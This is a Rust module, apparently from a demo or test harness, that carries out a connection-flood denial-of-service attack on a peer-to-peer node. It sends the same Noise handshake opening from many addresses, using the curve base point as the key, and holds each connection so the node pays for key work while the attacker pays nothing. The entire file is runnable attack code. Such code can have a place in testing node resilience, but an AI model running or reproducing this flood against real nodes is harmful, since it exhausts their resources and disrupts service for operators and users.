//! A flood of connections from as many addresses, each with the first message of a handshake, always
//! the same: the node pays for its answer with a key and two exchanges, the attacker with nothing.

use std::{sync::Arc, time::Duration};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    time::timeout,
};

use super::{Attacker, one_each::each_connection};
use crate::demo::multistream;

/// How long it holds a connection, unless the node closes it.
const HOLD: Duration = Duration::from_secs(10);

pub async fn run(attacker: &Attacker, rate: f64) {
    let opening: Arc<[u8]> = opening().into();
    each_connection(attacker, rate, move |mut socket| {
        let opening = opening.clone();
        async move {
            if socket.write_all(&opening).await.is_ok() {
                hold(&mut socket).await;
            }
        }
    })
    .await;
}

/// Waits until the node hangs up, or for so long.
async fn hold(socket: &mut TcpStream) {
    let mut ignored = [0; 512];
    let closed = async { while matches!(socket.read(&mut ignored).await, Ok(1..)) {} };
    // Either is the end of it.
    let _ = timeout(HOLD, closed).await;
}

/// The proposal of noise, and its first message: a public key, here the base point of the curve.
fn opening() -> Vec<u8> {
    let mut bytes = multistream::proposal("/noise");
    bytes.extend_from_slice(&32u16.to_be_bytes());
    bytes.push(9);
    bytes.extend_from_slice(&[0; 31]);
    bytes
}
